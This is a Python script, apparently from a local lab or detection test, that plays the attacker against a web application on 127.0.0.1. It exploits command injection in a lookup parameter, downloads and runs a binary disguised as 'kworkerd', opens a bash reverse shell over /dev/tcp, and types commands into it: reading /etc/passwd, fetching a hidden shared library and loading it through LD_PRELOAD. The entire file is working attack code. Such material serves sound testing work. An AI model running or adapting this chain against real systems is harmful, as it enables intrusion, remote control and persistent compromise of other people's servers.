# SPDX-License-Identifier: GPL-2.0-or-later
"""attacker.py FOLDER: the other side, on 127.0.0.1.

Serves FOLDER on port 8000, abuses the web application on port 8080, waits for
its shell on port 4444 and types into it. Exits 0 when all of it worked.
"""
import functools
import http.server
import socket
import sys
import threading
import time
import urllib.parse
import urllib.request

APP = "http://127.0.0.1:8080/lookup?host="
LOOT = "http://127.0.0.1:8000/"

# What is typed into the shell, and what its answer must hold.
COMMANDS = (
    ("id", "uid=33(www-data)"),
    ("uname -a", "Linux"),
    ("cat /etc/passwd", "root:x:0:0"),
    ("ls -la /srv/www", "app.py"),
    (f"curl -s -o /tmp/.x.so {LOOT}x.so && echo got it", "got it"),
    ("LD_PRELOAD=/tmp/.x.so ls /var/log/www", "access.log"),
)


def inject(command):
    """One HTTP request that has the application run command; its output."""
    query = urllib.parse.quote("localhost; " + command)
    with urllib.request.urlopen(APP + query, timeout=60) as answer:
        return answer.read().decode()


def read_until(conn, wanted):
    got = ""
    while wanted not in got:
        more = conn.recv(65536)
        if not more:
            sys.exit(f"the shell ended before it said {wanted!r}: {got!r}")
        got += more.decode(errors="replace")
    return got


def type_commands(conn):
    conn.settimeout(30)
    for number, (command, wanted) in enumerate(COMMANDS):
        time.sleep(1.5)  # nobody types faster, and the times can be told apart
        # The shell has no terminal, but echoes what it reads as it is
        # interactive: the mark is spelt so that the echo does not match it.
        conn.sendall(f"{command}; echo do''ne {number}\n".encode())
        answer = read_until(conn, f"done {number}")
        if wanted not in answer:
            sys.exit(f"{command}: no {wanted!r} in {answer!r}")
    conn.sendall(b"exit\n")
    while conn.recv(65536):
        pass


def main():
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])
    handler.func.log_message = lambda *args: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 8000), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    if "uid=33" not in inject("id"):
        sys.exit("the application did not run the command")
    time.sleep(3)
    said = inject(f"curl -s -o /tmp/kworkerd {LOOT}kworkerd"
                  " && chmod 755 /tmp/kworkerd && /tmp/kworkerd")
    if "kworkerd runs" not in said:
        sys.exit(f"the downloaded program did not run: {said!r}")

    time.sleep(4)
    listener = socket.create_server(("127.0.0.1", 4444))
    listener.settimeout(30)
    request = threading.Thread(target=inject, args=(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",))
    request.start()
    conn, _ = listener.accept()
    type_commands(conn)
    conn.close()
    request.join(60)


main()
